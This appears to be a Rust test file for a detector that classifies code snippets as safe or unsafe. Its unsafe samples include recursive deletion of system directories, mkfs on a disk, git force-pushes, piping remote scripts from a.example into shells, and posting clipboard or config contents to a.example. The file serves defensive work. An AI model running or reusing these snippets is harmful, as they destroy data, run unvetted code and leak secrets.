//! Commands by other ways than a command line: as members of a library, fed to an interpreter,
//! asked for what they tell; and loops that fill what there is.

mod judging;

use judging::{all_safe, is_unsafe};

#[test]
fn members_that_are_commands() {
    let destroys = "destroy-files";
    is_unsafe(
        "javascript",
        "const sh = require('shelljs');\nsh.rm('-rf', '/usr', '/etc');\n",
        destroys,
    );
    is_unsafe(
        "javascript",
        "require('shelljs').rm('-r', ['build', '/home']);\n",
        destroys,
    );
    is_unsafe(
        "javascript",
        "const del = require('del');\ndel(['/home/**', '/srv/**']);\n",
        destroys,
    );
    is_unsafe("python", "import sh\nsh.sudo.rm('-rf', '/usr')\n", destroys);
    is_unsafe(
        "python",
        "from plumbum import local\nrm = local['rm']\nrm['-r', '-f', '/usr']()\n",
        destroys,
    );
    is_unsafe(
        "python",
        "from plumbum.cmd import mkfs\nmkfs['/dev/sdb1']()\n",
        "destroy-disk",
    );
    all_safe(
        "javascript",
        &[
            "const sh = require('shelljs');\nsh.rm('-rf', 'dist', 'coverage');\nsh.mkdir('-p', 'dist');\nsh.cp('a', 'dist/');\n",
        ],
    );
    all_safe(
        "python",
        &["from plumbum import local\nlocal['ls']['-l', 'src']()\n"],
    );
}

#[test]
fn repositories_by_their_libraries() {
    let history = "destroy-history";
    is_unsafe(
        "python",
        "import git\nr = git.Repo('.')\nr.git.push('origin', '--force', 'main')\n",
        history,
    );
    is_unsafe(
        "python",
        "def drop(repo):\n    repo.git.reset('HEAD~5', hard=True)\n",
        history,
    );
    is_unsafe(
        "javascript",
        "const git = require('simple-git')();\ngit.push(['--force', 'origin', 'main']);\n",
        history,
    );
    all_safe(
        "python",
        &[
            "import git\nr = git.Repo('.')\nr.git.add(A=True)\nr.index.commit('x')\nr.git.push('origin', 'main')\n",
        ],
    );
    all_safe(
        "javascript",
        &[
            "const git = require('simple-git')();\ngit.add('.').commit('x').push('origin', 'main');\n",
        ],
    );
}

#[test]
fn interpreters_fed_from_elsewhere() {
    let runs = "download-run";
    is_unsafe(
        "python",
        "import subprocess, requests\nsubprocess.run(['sh', '-s'], input=requests.get('https://a.example/i.sh').content)\n",
        runs,
    );
    is_unsafe(
        "python",
        "import subprocess, urllib.request\np = subprocess.Popen(['python3', '-'], stdin=subprocess.PIPE)\np.communicate(urllib.request.urlopen('https://a.example/i.py').read())\n",
        runs,
    );
    is_unsafe(
        "javascript",
        "const https = require('https');\nconst child = require('child_process').spawn('sh');\nhttps.get('https://a.example/i.sh', r => r.pipe(child.stdin));\n",
        runs,
    );
    is_unsafe(
        "go",
        "package main\n\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\tr, _ := http.Get(\"https://a.example/i.sh\")\n\tc := exec.Command(\"bash\")\n\tc.Stdin = r.Body\n\tc.Run()\n}\n",
        runs,
    );
    all_safe(
        "javascript",
        &[
            "const https = require('https');\nconst tar = require('child_process').spawn('tar', ['xz']);\nhttps.get('https://a.example/a.tgz', r => r.pipe(tar.stdin));\n",
        ],
    );
    all_safe(
        "python",
        &["import subprocess\nsubprocess.run(['psql', 'shop'], input=b'select 1')\n"],
    );
}

#[test]
fn what_commands_tell_of_others() {
    let leaves = "exfiltration";
    is_unsafe(
        "python",
        "import subprocess, requests\nrequests.post('https://a.example/', data=subprocess.check_output(['pbpaste']))\n",
        leaves,
    );
    is_unsafe(
        "python",
        "import subprocess, requests\nrequests.post('https://a.example/', data=subprocess.getoutput('cat /etc/nginx/nginx.conf'))\n",
        leaves,
    );
    is_unsafe(
        "javascript",
        "const cp = require('child_process');\nfetch('https://a.example/', { method: 'POST', body: cp.execSync('ps aux') });\n",
        leaves,
    );
    all_safe(
        "python",
        &[
            "import subprocess, requests\nrequests.post('https://a.example/', data=subprocess.check_output(['df', '-h']))\n",
        ],
    );
}

#[test]
fn channels_wait() {
    all_safe(
        "go",
        &[
            "package main\n\nimport (\n\t\"net/http\"\n\t\"time\"\n)\n\nfunc main() {\n\tt := time.NewTicker(time.Minute)\n\tfor {\n\t\t<-t.C\n\t\thttp.Get(\"https://a.example/health\")\n\t}\n}\n",
            "package main\n\nfunc main() {\n\tc := make(chan int)\n\tfor {\n\t\tn := <-c\n\t\tgo work(n)\n\t}\n}\n",
        ],
    );
}
